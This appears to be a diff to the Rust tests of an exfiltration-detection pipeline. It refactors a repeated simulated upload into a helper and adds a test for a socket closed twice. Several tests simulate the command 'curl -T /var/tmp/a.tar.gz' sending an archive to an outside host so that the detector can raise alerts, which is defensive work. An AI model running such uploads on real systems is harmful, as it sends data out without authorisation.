@@ -60,6 +60,11 @@ fn archive_and_send(scene: &mut Scene, tool: &str, argv: &[&str], bytes: u64) {
     scene.send(102, 7, OUTSIDE, bytes, 500_000);
 }
 
+/// The same with curl, all of it.
+fn archive_and_upload(scene: &mut Scene) {
+    archive_and_send(scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+}
+
 #[test]
 fn an_archive_that_is_uploaded_is_one_alert_that_names_everybody() {
     let rows: &[(&str, &[&str])] = &[
@@ -205,12 +210,7 @@ fn a_trust_rule_covers_its_volume_and_no_more() {
         let text = format!("[[trust]]\nname = \"backup\"\ndestinations = [\"198.51.100.0/24\"]\n{cap}");
         let config = Config::parse(&text, "test.toml").unwrap();
         let mut scene = Scene::new();
-        archive_and_send(
-            &mut scene,
-            "/usr/bin/curl",
-            &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE],
-            12_050_000,
-        );
+        archive_and_upload(&mut scene);
         scene.stop();
         let opened = run(&scene, config)
             .iter()
@@ -223,7 +223,7 @@ fn a_trust_rule_covers_its_volume_and_no_more() {
 #[test]
 fn an_alert_closes_when_its_story_is_quiet_and_a_late_one_is_new() {
     let mut scene = Scene::new();
-    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    archive_and_upload(&mut scene);
     scene.wait(3_600);
     scene.tick();
     let lines = alerts(&scene);
@@ -246,7 +246,7 @@ fn a_transfer_that_passes_a_size_on_its_way_proves_nothing() {
 #[test]
 fn a_second_theft_of_the_same_data_is_told_at_once() {
     let mut scene = Scene::new();
-    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    archive_and_upload(&mut scene);
     scene.spawn(10, 300, "/opt/other", &["other"]);
     scene.read(300, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
     scene.send(300, 9, OUTSIDE, 12_050_000, 500_000);
@@ -263,12 +263,7 @@ fn a_second_theft_of_the_same_data_is_told_at_once() {
 fn a_closed_alert_opens_again_only_on_news() {
     for (bytes, expected) in [(3_000, 1), (12_050_000, 2)] {
         let mut scene = Scene::new();
-        archive_and_send(
-            &mut scene,
-            "/usr/bin/curl",
-            &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE],
-            12_050_000,
-        );
+        archive_and_upload(&mut scene);
         scene.wait(900);
         scene.tick();
         scene.spawn(100, 103, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE]);
@@ -298,9 +293,25 @@ fn a_socket_that_is_used_again_after_its_close_counts_once() {
 }
 
 #[test]
+fn a_socket_whose_close_is_told_twice_leaves_nothing_behind() {
+    let mut scene = Scene::new();
+    scene.spawn(10, 100, "/usr/bin/client", &["client"]);
+    scene.connect(100, 7, OUTSIDE);
+    scene.close(7);
+    scene.close(7);
+    scene.wait(60);
+    scene.tick();
+    let mut pipeline = Pipeline::new(Config::default());
+    for event in &scene.events {
+        pipeline.step(event, &mut Vec::new());
+    }
+    assert_eq!(pipeline.totals().flows, 0);
+}
+
+#[test]
 fn the_numbers_in_an_alert_recompute_its_score() {
     let mut scene = Scene::new();
-    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    archive_and_upload(&mut scene);
     scene.stop();
     for alert in alerts(&scene) {
         let again = crate::score::formula::judge(alert.verdict.signals.clone(), alert.verdict.proof);
@@ -312,7 +323,7 @@ fn the_numbers_in_an_alert_recompute_its_score() {
 #[test]
 fn events_in_any_order_and_about_nobody_do_no_harm() {
     let mut scene = Scene::new();
-    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    archive_and_upload(&mut scene);
     scene.stop();
     scene.events.reverse();
     let mut pipeline = Pipeline::new(Config::default());
